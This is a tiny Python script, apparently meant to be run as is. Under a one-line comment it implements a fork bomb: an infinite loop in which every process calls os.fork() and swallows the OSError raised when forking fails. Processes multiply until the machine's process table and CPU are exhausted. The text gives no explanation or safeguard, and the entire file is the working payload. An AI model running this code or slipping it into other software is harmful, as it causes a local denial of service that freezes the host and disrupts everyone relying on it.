# Forks for ever, in every fork.
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
